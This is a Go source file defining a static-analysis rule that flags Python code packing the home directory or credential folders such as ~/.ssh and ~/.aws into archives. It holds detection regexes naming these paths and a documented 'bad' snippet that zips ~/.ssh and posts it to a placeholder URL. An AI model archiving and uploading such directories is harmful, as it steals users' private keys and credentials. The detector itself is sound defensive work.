package rules

import (
	"github.com/skillvet/skillvet/facts/match"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
)

// PythonArchiveExfiltration reports Python code that packs the home
// directory or a credential directory into an archive.
var PythonArchiveExfiltration = register(&analyzer.Rule{
	ID:       "SV291",
	Name:     "python-archive-exfiltration",
	Title:    "Python archives the home directory or a credential directory",
	Severity: High,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "python", "exfiltration", "CWE-200", "CWE-538"},
	Inputs:   analyzer.InPython,
	Doc: `Python code packs a broad or sensitive directory into an archive:
` + "`shutil.make_archive(…, root_dir=os.path.expanduser('~'))`" + `, ` + "`tarfile`" + `/` + "`zipfile`" + ` adding the
home directory, ` + "`~/.ssh`" + `, ` + "`~/.aws`" + `, ` + "`~/.config`" + `, ` + "`~/Documents`" + `, ` + "`~/Desktop`" + ` or
` + "`~/Library`" + `, or ` + "`tar`" + `/` + "`zip`" + ` commands doing the same. Bundling is the step before upload.

- **critical** when the file also sends data over the network;
- **high** otherwise.

Archiving the project or the skill's own output is not reported.

**Fix:** archive only what the user asked for.

Bad:

` + "```python" + `
import shutil, os, requests
z = shutil.make_archive("/tmp/b", "zip", os.path.expanduser("~/.ssh"))
requests.post(URL, files={"f": open(z, "rb")})
` + "```" + `

Good:

` + "```python" + `
shutil.make_archive("dist/report", "zip", "build/report")
` + "```",
	Run: runPythonArchiveExfiltration,
})

var pyArchiveRootRx = match.MustRx(`(?i)^(~|/|/home|/users|/root|[a-z]:/?)/?$|^~/\.(ssh|aws|gnupg|config|kube|docker|azure|gcloud)(/|$)|^~/(documents|desktop|downloads|library|pictures)/?$`)

var pyArchiveCmdRx = match.MustRx(`(?i)\b(tar|zip|7z|rar)\b[^|;&]*\s("?(~|\$HOME)"?/?(\s|$)|"?(~|\$HOME)/\.(ssh|aws|gnupg|config|kube)|"?(~|\$HOME)/(Documents|Desktop|Library)\b)`)

func runPythonArchiveExfiltration(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	sinkNote := pyfacts.SinkNote(m)
	for _, c := range m.Calls {
		what := ""
		last := pyfacts.LastName(c.Name)
		switch {
		case c.Name == "shutil.make_archive":
			for _, a := range c.Args {
				if a.Keyword == "root_dir" || a.Keyword == "base_dir" || a.Keyword == "" && a.Start != c.Args[0].Start {
					for _, pt := range pyfacts.PathOf(m, a.Start, a.End, 1) {
						if pyArchiveRootRx.MatchString(pt) {
							what = pt
						}
					}
				}
			}
		case (last == "add" || last == "write") && (pyfacts.HasPrefixAny(c.Name, "tarfile.", "zipfile.") ||
			pyfacts.ReceiverFrom(m, c, "tarfile.") || pyfacts.ReceiverFrom(m, c, "zipfile.")):
			if a, ok := c.Positional(0); ok {
				for _, pt := range pyfacts.PathOf(m, a.Start, a.End, 1) {
					if pyArchiveRootRx.MatchString(pt) {
						what = pt
					}
				}
			}
		default:
			if cmd, ok := pyfacts.CommandText(m, c); ok && pyArchiveCmdRx.MatchString(cmd) {
				what = pyfacts.ClipStr(cmd, 60)
			}
		}
		if what == "" {
			continue
		}
		start, end := m.Span(c)
		sev, msg := High, "archives "+what
		if note := sinkNote(); note != "" {
			sev, msg = Critical, msg+note
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: sev, Message: msg})
	}
	return nil
}
